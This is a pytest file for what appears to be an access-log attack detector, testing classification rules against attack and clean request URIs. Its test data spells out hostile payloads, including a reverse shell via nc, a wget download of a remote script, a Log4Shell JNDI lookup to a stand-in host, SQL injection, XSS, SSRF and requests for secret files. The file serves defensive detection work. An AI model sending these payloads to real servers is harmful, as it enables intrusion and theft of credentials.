"""Single requests judged, the commands for it, and the goals on real payloads and logs."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pytest

from penstock.apps.accesslog.detection.classification import classify
from penstock.apps.accesslog.detection.detector import Detector
from penstock.apps.accesslog.detection.rules import default_rules
from penstock.cli import main
from penstock.formats.accesslog import make_parser, take_texts

#: File of one scenario to the class that one of its lines must raise; counted ones are not here.
HUB = {
    "apache-http-probing": "file_inclusion",
    "apache2-http-sensitive-files": "secret_file",
    "apache2-malformed": "protocol_abuse",
    "apache_log4j2_cve-2021-44228": "java_injection",
    "http-admin-interface-probing": "cms_probe",
    "http-cve-probing": "cve_probe",
    "http-dos-invalid-http-versions": "protocol_abuse",
    "http-technology-probing": "cve_probe",
    "http-wordpress-scan": "cms_probe",
    "http-wordpress_user-enum": "enumeration",
    "http-wordpress_wpconfig": "cms_probe",
    "nginx-http-backdoor": "web_shell",
    "nginx-http-open-proxy": "proxy_abuse",
    "nginx-http-path-traversal": "path_traversal",
    "nginx-http-sensitive-files": "secret_file",
    "nginx-http-sqli-probing": "sql_injection",
    "nginx-http-w00twoot": "scanner",
    "nginx-http-xss-probing": "xss",
}
#: Written for this test, of no collection: classes must hold beyond what the rules were tried on.
ATTACKS = {
    "sql_injection": [
        "/p?id=-7%27%20UnIoN%20aLl%20SeLeCt%20null,user()--%20-",
        "/p?id=2)%20and%20(3=3",
        "/i?n=1;waitfor%20delay%20%270:0:9%27",
        "/p?id=1'or'1",
        "/p?id=(1)or(1)=(1)",
        "/p?id=1'-0-'",
        "/p?id=1%26%261",
        "/p?id=1%20union%23a%0aselect%201,2",
    ],
    "xss": [
        "/s?q=%22%3E%3Cvideo%20src=1%20onerror=fetch(1)%3E",
        "/s?q=%3Cdetails/open/ontoggle=confirm()%3E",
        "/s?u=jAvAsCrIpT:alert(9)",
    ],
    "path_traversal": [
        "/dl?n=..%252f..%252f..%252fetc%252fhosts",
        "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    ],
    "command_injection": [
        "/ping?h=8.8.8.8;nc%20-e%20/bin/sh%20192.0.2.1%201",
        "/x?a=%60wget%20http://192.0.2.1/m.sh%60",
        "/x?h=a%7C%7Cw%22h%22oami",
    ],
    "php_injection": ["/a?b=%3C?php%20passthru($_GET[1]);", "/a?f=create_function(%27%27,$x)"],
    "template_injection": [
        "/t?n=%7B%7Brequest.application.__globals__%7D%7D",
        "/t?u=http://169.254.169.254/latest/user-data",
    ],
    "java_injection": [
        "/?a=$%7Bjndi:rmi://192.0.2.1:1099/x%7D",
        "/?class.module.classLoader.resources.x=1",
    ],
    "file_inclusion": [
        "/?page=php://filter/convert.base64-encode/resource=index",
        "/?inc=http://192.0.2.9/s.txt?",
        "/?page=php:%0a//filter/x",
    ],
    "secret_file": ["/app/.env.local", "/.git/index", "/backup.tar.gz", "/.env%20", "/x/.env;.js"],
}
CLEAN = [
    "/",
    "/shop?page=2&sort=price&dir=desc",
    "/search?q=union+of+students+select+committee",
    "/a/b/c.css?v=1.2.3",
    "/search?q=how+to+drop+a+table+cloth",
    "/?utm_source=news&utm_campaign=a%20b",
    "/item/5?color=red%2Cblue",
    "/blog/2020/05/what-is-sql-injection",
    "/search?q=O%27Reilly+books",
    "/api/v1/users?filter=name&order=asc",
    "/search?q=cat+and+dog",
    "/?s=script+for+a+play",
    "/login?next=/account/orders",
    "/img?src=/uploads/a.png&w=200",
    "/search?q=C%2B%2B+system+(2nd+edition)",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=aB--9",
]


@pytest.mark.parametrize("expected", ATTACKS)
def test_payloads_of_other_making_are_attacks_of_their_class(expected: str) -> None:
    judged = classify(ATTACKS[expected], default_rules())
    assert [(each.verdict, each.attack_class) for each in judged] == [("attack", expected)] * len(judged)


def test_ordinary_targets_are_clean() -> None:
    judged = zip(CLEAN, classify(CLEAN, default_rules()), strict=True)
    assert [(uri, each.rules) for uri, each in judged if each.verdict != "clean"] == []


def test_a_csv_is_judged_row_by_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    given, written = tmp_path / "in.csv", tmp_path / "out.csv"
    given.write_text('id,uri\n1,"/?q=<script>alert(1)</script>"\n2,/about\n')
    assert main(["accesslog", "classify", str(given), str(written)]) == 0
    rows = list(csv.DictReader(written.read_text().splitlines()))
    assert [(row["verdict"], row["class"]) for row in rows] == [("attack", "xss"), ("clean", "")]
    assert int(rows[0]["score"]) >= 10
    assert "2 requests, 1 attack" in capsys.readouterr().out


def test_a_csv_without_the_column_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    given = tmp_path / "in.csv"
    given.write_text("url\n/\n")
    assert main(["accesslog", "classify", str(given), str(tmp_path / "out.csv")]) != 0
    assert "COLUMN_MISSING" in capsys.readouterr().err


def test_rules_are_listed_shown_and_checked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["accesslog", "rules", "list", "--class", "xss"]) == 0
    assert "xss.script-tag" in capsys.readouterr().out
    assert main(["accesslog", "rules", "show", "sqli.union-select"]) == 0
    assert "Rows of another table" in capsys.readouterr().out
    mine = tmp_path / "mine.yaml"
    mine.write_text(
        "- {id: a.b, class: xss, what: It., look: [path], any: [x], hits: [GET /y], misses: [GET /]}"
    )
    assert main(["accesslog", "rules", "check", str(mine)]) == 1
    assert "does not hit 'GET /y'" in capsys.readouterr().err


def test_the_goal_for_single_payloads_holds(accesslog_data: Path) -> None:
    rows = list(csv.DictReader((accesslog_data / "payloads" / "crs-uri-tests.csv").read_text().splitlines()))
    hit: Counter[str] = Counter()
    judged = classify([row["uri"] for row in rows], default_rules())
    for row, each in zip(rows, judged, strict=True):
        hit[row["label"]] += each.verdict == "attack"
    labels = Counter(row["label"] for row in rows)
    assert hit["attack"] / labels["attack"] >= 0.85
    assert hit["fp_guard"] / labels["fp_guard"] <= 0.05


@pytest.mark.parametrize("name", HUB)
def test_each_scenario_file_raises_its_class(accesslog_data: Path, name: str) -> None:
    ruleset = default_rules()
    log = (accesslog_data / "attack" / "crowdsec-hub" / f"{name}.log").read_bytes()
    lines = make_parser().parse(pa.array([line for line in log.splitlines() if line.strip()], pa.binary()))
    found = Detector(ruleset).detect(lines)
    raised = {ruleset.rules[rule].attack_class for rule in found.hit_rules if ruleset.rules[rule].points}
    assert HUB[name] in raised


@pytest.mark.parametrize("name", ["elastic-apache-combined", "zanbil-nginx-combined-xff"])
def test_hardly_a_benign_client_gets_points_and_none_is_blocked_for_what_it_asked(
    accesslog_data: Path, name: str
) -> None:
    ruleset = default_rules()
    log = (accesslog_data / "normal" / f"{name}.log").read_bytes()
    lines = make_parser().parse(pa.array(log.splitlines(), pa.binary()))
    clients = take_texts(lines, "client").to_pylist()
    found = Detector(ruleset).detect(lines)
    points: Counter[str] = Counter()
    for row, rule in zip(found.hit_rows.tolist(), found.hit_rules.tolist(), strict=True):
        points[clients[row].decode()] += ruleset.rules[rule].points
    labels = list(csv.DictReader((accesslog_data / "labels" / f"{name}.csv").read_text().splitlines()))
    benign = [label["client"] for label in labels if label["label"] == "benign"]
    assert [client for client in benign if points[client] >= 10] == []
    assert sum(points[client] > 0 for client in benign) <= 0.002 * len(benign)
